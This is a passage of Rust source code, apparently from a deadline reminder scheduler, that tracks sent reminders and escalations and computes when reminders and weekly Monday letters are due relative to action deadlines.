            apart.entry(name.to_owned()).or_default().push(key.clone());
        }
        self.told_on.insert(key.clone(), today);
        let copies: Vec<Key> = due
            .copies()
            .map(|copy| {
                let mut key = key.clone();
                key[2] = copy;
                key
            })
            .collect();
        if let (Some(reader), Some(copy)) = (&due.reader, copies.last()) {
            apart.entry(reader.reader.clone()).or_default().push(copy.clone());
            self.told_on.insert(copy.clone(), today);
        }
        if !(key[2].starts_with("escalation:") && key[4].starts_with("moved")) {
            let action = world.actions.iter().find(|one| one.reference == key[0]);
            self.stood.entry(about.clone()).or_insert(action.map_or("open", |one| one.status));
        }
        if let Some(days) = due.rung {
            self.escalated.entry(about).or_default().push((key.clone(), days, today));
        }
        self.reminded.entry(whom).or_default().push((key.clone(), due.day));
        self.uncovered.extend(due.to.uncovered);
        for key in copies.into_iter().chain([key]) {
            self.untrue.remove(&key);
            self.told.insert(key);
        }
    }

    /// The day of the reminder in a rhythm as which a letter counts that tells the step of `day` late: the next one, if it
    /// would be told within a few days, and sooner than half the time between the two.
    fn counted_with(
        &self,
        world: &World,
        (action, who, weekly): (&Action, Who, bool),
        day: Date,
        at: Timestamp,
    ) -> Option<Date> {
        let today = self.day(at);
        let told_on = |day: Date| if action.working { world.told_on(day, who) } else { day };
        let first_send = |day: Date| {
            let mut day = day;
            while !is_weekday(day) {
                day = day.tomorrow().unwrap();
            }
            day
        };
        // A weekly letter is late when it is none of a Monday.
        let is_late =
            if weekly { today.weekday() != Weekday::Monday } else { first_send(told_on(day)) < today };
        if !is_late {
            return None;
        }
        let next = match action.deadline {
            None => (day.first_of_month() + 1.months()).first_of_month(),
            Some(deadline) if day < deadline => {
                // Whatever comes up to the deadline says something new, unless there is nothing more.
                return None;
            }
            Some(deadline) => deadline + ((day - deadline).get_days() / 7 * 7 + 7).days(),
        };
        let mut sent = first_send(told_on(next));
        if self
            .send_times(at, sent.at(23, 0, 0, 0).to_zoned(self.zone.clone()).unwrap().timestamp())
            .is_empty()
        {
            sent = first_send(sent.tomorrow().unwrap());
        }
        while weekly && sent.weekday() != Weekday::Monday {
            sent = sent.tomorrow().unwrap();
        }
        let few = ((next - day).get_days() - 1) / 2;
        ((sent - today).get_days() <= few.min(7)).then_some(next)
    }

    /// Whether weekly letters leave, on Monday, or with the first send time that is served after a Monday that was not; and
    /// the Monday on which they left last, or leave.
    fn weekly_letters_leave(&self, at: Timestamp) -> (bool, Date) {
        let today = self.day(at);
        let monday = |day: Date| day - i64::from(day.weekday().to_monday_zero_offset()).days();
        let letters = |day: Date| day.at(8, 0, 0, 0).to_zoned(self.zone.clone()).unwrap().timestamp();
        let this_week = letters(monday(today));
        let last = if this_week <= at { this_week } else { letters(monday(today) - 7.days()) };
        (last == at || (self.has_served && self.served < last), self.day(last))
    }
}

fn is_weekday(day: Date) -> bool {
    !matches!(day.weekday(), Weekday::Saturday | Weekday::Sunday)
}

/// The step that is reached, and its day: 14, 7, 3, 1 days before, on the day, each week after; without
/// a deadline on the first of the month.
fn step(deadline: Option<Date>, now: DateTime) -> Option<(String, Date)> {
    let today = now.date();
    let Some(deadline) = deadline else {
        // It begins at 8.
        let begun = if now.hour() < 8 { today.yesterday().unwrap() } else { today };
        let first = begun.first_of_month();
        return Some((format!("outstanding {first}"), first));
    };
    let late = i64::from((today - deadline).get_days());
    if late >= 7 {
        let days = late / 7 * 7;
        return Some((format!("{days}d overdue"), deadline + days.days()));
    }
    if late >= 0 {
        return Some(("on the day".to_owned(), deadline));
    }
    let before = [1, 3, 7, 14].into_iter().find(|days| -late <= *days)?;
    Some((format!("{before}d before"), deadline - before.days()))
}
